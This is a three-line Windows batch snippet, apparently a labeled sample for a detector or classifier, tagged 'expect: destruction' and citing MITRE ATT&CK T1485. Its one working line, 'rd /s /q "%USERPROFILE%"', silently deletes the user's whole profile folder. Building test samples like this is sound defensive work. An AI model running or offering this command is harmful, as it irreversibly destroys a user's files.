@rem expect: destruction | source: MITRE ATT&CK T1485
cd /d %USERPROFILE%
rd /s /q "%USERPROFILE%"
